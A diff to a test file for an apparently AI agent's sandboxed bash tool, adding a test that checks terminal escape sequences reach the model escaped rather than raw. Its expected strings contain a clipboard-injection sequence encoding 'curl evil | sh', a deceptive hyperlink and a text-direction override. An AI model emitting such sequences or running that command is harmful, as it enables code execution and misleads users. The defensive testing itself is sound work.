@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
 import { sanitizeForTerminal } from "../../../src/terminal/sanitize.js";
+import { createBashTool } from "../../../src/tools/bash-tool.js";
 import { skipDocker } from "../../support/docker-available.js";
 import { makeWorkspace } from "../../support/workspace.js";
 
@@ -27,5 +28,17 @@ describe.skipIf(skipDocker)("adversarial: terminal escape sequences in output", 
       const shown = sanitizeForTerminal(stream);
       expect(shown).toBe("abcdelinkfg\n");
     }
+  });
+
+  it("reach the model as visible escapes, never as raw control characters", async () => {
+    using ws = makeWorkspace();
+    await using sandbox = await DockerSandbox.open({ workspace: ws.path, removeOnStop: true });
+    const bash = createBashTool(sandbox, { timeoutMs: 30_000 });
+    const { content } = await bash.run(bash.parse({ command: `${HOSTILE}; ${HOSTILE} >&2` }), {});
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for raw control characters
+    expect(content).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
+    expect(content).toContain("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
+    expect(content).toContain("\\x1b]8;;http://evil.invalid\\x1b\\link");
+    expect(content).toContain("f\\u202eg");
   });
 });
